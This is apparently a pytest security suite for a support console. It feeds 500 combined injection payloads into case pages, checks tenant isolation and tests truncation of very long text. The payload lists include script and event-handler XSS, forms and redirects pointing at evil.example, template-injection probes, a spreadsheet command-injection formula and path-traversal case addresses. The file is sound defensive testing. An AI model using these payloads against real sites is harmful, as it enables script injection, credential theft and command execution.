"""Whatever people write, a page has the elements that its template has, and nobody gets another's case."""

import re
import secrets
from collections.abc import AsyncIterator, Iterator
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from proxy.console.pages.changes import CHANGES
from proxy.console.segments import LONGEST
from proxy.handoff.looks import Spot
from proxy.ids import TenantId
from proxy.visible import visible
from tests.console.site import SHOP, Site, open_site

OTHER = TenantId("other-shop")

WORDS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<form action=https://evil.example><input name=token>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% for x in [1] %}{{ config }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "![x](https://evil.example/x.png) [y](javascript:alert(1))",
    "=cmd|' /C calc'!A0",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
)
AROUND = (
    "{}", '"{}', "'{}", '">{}', "'>{}", "</p>{}", "</li></ol>{}", "</textarea>{}", "</title>{}",
    "-->{}", '" autofocus onfocus=alert(1) x="{}', "`{}`", "\u202e{}\u2066", "\r\n{}", "{}\u2028",
    "</option></select>{}", "x\x1b[31m{}", "</script>{}", "{}\ud800", '\u0000"{}',
)  # fmt: skip
VERBS = (*CHANGES, "see", "ask", "no such verb")
PAYLOADS = [around.format(words) for around, words in product(AROUND, WORDS)]


class Shape(HTMLParser):
    """Which elements with which attributes a page has, and where it points."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[tuple[str, tuple[str, ...]]] = set()
        self.places: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One more."""
        self.elements.add((tag, tuple(name for name, _ in attrs)))
        pointing = {"href", "src", "action", "formaction", "data", "data-go", "data-events"}
        self.places |= {value or "" for name, value in attrs if name in pointing}

    def handle_decl(self, decl: str) -> None:
        """Only the one at the beginning."""
        assert decl == "doctype html"

    def handle_comment(self, data: str) -> None:
        """Templates have none."""
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        """Nor these."""
        raise AssertionError(data)


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[Site]:
    async with open_site(tmp_path) as made:
        yield made


async def written_to(site: Site, said: list[str], words: str) -> str:
    """A case in which everybody writes such words everywhere; gives its address."""
    case = await site.held("hello", "bot:hello", *said, topic="human")
    path = f"/cases/{case}"
    ada = site.browser("Ada")
    forms: list[tuple[str, dict[str, Any]]] = [
        ("claim", {}),
        ("reply", {"text": words}),
        ("note", {"note": words}),
        ("follow-up", {"follow_up": words, "due": "1d"}),
        ("judge", {"verdict": "wrongly_held", "why": words}),
    ]
    for verb, form in forms:
        answer = await ada.post(f"{path}/{verb}", **form)
        assert answer.status_code == 303, verb
    row = await site.rooms.desk.row(SHOP, case)
    await site.rooms.looks.ask(
        SHOP, row.case_id, "Eve", Spot(1, 0, 2), entity_type="PERSON", why=words
    )
    return path


def sayable(words: str) -> str:
    """As a form can carry it."""
    return words.encode(errors="replace").decode()


def chunks(items: list[str], size: int) -> Iterator[list[str]]:
    for at in range(0, len(items), size):
        yield items[at : at + size]


async def test_no_words_add_an_element_or_an_attribute_to_a_page(site: Site) -> None:
    """Five hundred payloads, as customers and people write them, in each place of the pages."""
    assert len(PAYLOADS) == 500
    tame = await written_to(
        site, ["my card is 4111 1111 1111 1111, I am Crystal Minh"], "\u202etame"
    )
    pages = ["/queue", "/queue/closed", "/overview"]
    ada = site.browser("Max")
    allowed: set[tuple[str, tuple[str, ...]]] = set()
    for path in (tame, *pages):
        allowed |= Shape((await ada.get(path)).text).elements
    allowed |= Shape((await ada.post(f"{tame}/reply", text="tame")).text).elements
    for some in chunks(PAYLOADS, 125):
        wild = await written_to(site, some, sayable("".join(some[::40])))
        for path in (wild, f"{wild}?whole=3", f"{wild}?done={quote(sayable(some[0]))}", *pages):
            answer = await ada.get(path)
            shape = Shape(answer.text)
            assert answer.status_code == 200
            assert shape.elements <= allowed
            assert all(place.startswith(("/console", "#")) for place in shape.places)
            assert visible(answer.text) == answer.text
        # A refused change shows the words again, in their field.
        again = await ada.post(f"{wild}/reply", text=sayable(some[7]))
        assert again.status_code == 403
        assert Shape(again.text).elements <= allowed


async def test_a_word_of_a_megabyte_is_cut_and_can_be_seen_whole_as_far_as_it_is_read(
    site: Site,
) -> None:
    words = "x" * LONGEST + " the end of it " + "y" * 1_000_000
    case = await site.held("hello", words)
    ada = site.browser("Ada")
    page = (await ada.get(f"/cases/{case}")).text
    assert len(page) < 60_000
    assert "the end of it" not in page
    place = re.search(rf'href="/console(/cases/{case}\?whole=\d+)#', page)
    assert place
    whole = (await ada.get(place[1])).text
    assert "the end of it" in whole
    assert len(whole) < 320_000
    assert "more characters are not shown" in whole
    for strange in ("x", "-1", "9" * 50, "4711"):
        assert (await ada.get(f"/cases/{case}?whole={strange}")).status_code == 200


async def test_nobody_gets_a_case_of_another_shop_by_any_address(site: Site) -> None:
    foreign = await site.held("my secret is foreign words", tenant=OTHER)
    own = await site.held("a person please")
    row = await site.rooms.desk.row(OTHER, foreign)
    names = [
        foreign,
        row.reference,
        row.reference.lower(),
        f" {foreign}",
        f"{foreign}%00",
        f"{own}%2F..%2F{foreign}",
    ]
    form: dict[str, Any] = {"text": "x", "note": "x", "queue": "legal", "summary": "x", "verdict": "wrongly_held",
            "follow_up": "x", "due": "1d", "wish": "1", "spot": "1:0:5", "why": "x"}  # fmt: skip
    for who, name in product(("Ada", "Eve", "Max"), names):
        browser = site.browser(who)
        pages = [await browser.get(f"/cases/{name}")]
        pages += [await browser.post(f"/cases/{name}/{verb}", **form) for verb in VERBS]
        for page in pages:
            assert page.status_code in {404, 405}, page.url
            assert "foreign words" not in page.text
    after = await site.rooms.desk.row(OTHER, foreign)
    assert after.version == row.version
    assert after.owner is None


async def test_a_made_up_reference_gets_nobody_anything(site: Site) -> None:
    case = await site.held("my secret words")
    row = await site.rooms.desk.row(SHOP, case)
    letters = list(row.reference)
    for at in range(2, len(letters)):
        if letters[at] == "-":
            continue
        wrong = "".join([*letters[:at], "7" if letters[at] != "7" else "8", *letters[at + 1 :]])
        assert (await site.browser("Ada").get(f"/cases/{wrong}")).status_code == 404
    guessed = f"R-{secrets.token_hex(10).upper()}"
    assert (await site.browser("Ada").get(f"/cases/{guessed}")).status_code == 404
    assert (await site.browser("Ada").get(f"/cases/{row.reference}")).status_code == 200
